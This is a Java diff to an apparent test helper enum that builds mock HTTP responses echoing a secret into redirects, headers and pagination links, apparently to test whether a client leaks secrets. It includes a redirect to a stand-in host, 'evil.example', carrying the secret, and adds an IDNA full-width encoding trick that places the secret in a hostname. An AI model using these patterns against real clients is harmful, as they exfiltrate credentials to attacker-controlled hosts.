@@ -27,10 +27,12 @@ enum Echo {
   ERROR_OF_TWINS_IN_TEXT(412),
   CHALLENGE(401),
   REDIRECT(307),
+  REDIRECT_TO_HOST(307),
   HEADERS(503),
   IDS(404),
   ENCODED(400),
   LINKS(200),
+  LINKS_TO_HOST(200),
   CLAIMS(401),
   REASON(400),
   STATUS_LINE(0);
@@ -69,6 +71,8 @@ enum Echo {
           case ERROR_OF_TWINS_IN_TEXT -> answer.body("\"" + all.replace("\"", "") + "\"");
           case CHALLENGE -> answer.setHeader("WWW-Authenticate", challenge(secret));
           case REDIRECT -> answer.setHeader("Location", "https://evil.example/?x=" + secret);
+          case REDIRECT_TO_HOST ->
+              answer.setHeader("Location", "https://" + fullWidth(secret) + "/x");
           case HEADERS ->
               answer
                   .setHeader("Retry-After", secret)
@@ -87,6 +91,10 @@ enum Echo {
               answer
                   .setHeader("Operation-Location", "https://" + secret + "/x")
                   .body(links(secret));
+          case LINKS_TO_HOST ->
+              answer
+                  .setHeader("Operation-Location", "https://" + fullWidth(secret) + "/x")
+                  .body(next(new JsonObject(), fullWidth(secret)).toString());
           case CLAIMS ->
               answer.setHeader(
                   "WWW-Authenticate",
@@ -121,11 +129,23 @@ enum Echo {
     error.addProperty("code", secret);
     error.addProperty("message", "You sent " + secret);
     job.add("error", error);
-    job.add("value", new JsonArray());
+    return next(job, secret).toString();
+  }
+
+  private static JsonObject next(JsonObject page, String host) {
+    page.add("value", new JsonArray());
     for (String next : new String[] {"nextLink", "continuationToken", "@odata.nextLink"}) {
-      job.addProperty(next, "https://" + secret + "/x");
+      page.addProperty(next, "https://" + host + "/x");
     }
-    return job.toString();
+    return page;
+  }
+
+  /** Writes a text in characters that a URL parser maps to those of the text (IDNA). */
+  private static String fullWidth(String text) {
+    StringBuilder wide = new StringBuilder();
+    text.chars()
+        .forEach(c -> wide.append(c > ' ' && c <= '~' ? (char) (c - '!' + '\uff01') : (char) c));
+    return URLEncoder.encode(wide.toString(), StandardCharsets.UTF_8);
   }
 
   private static String base64(String text) {
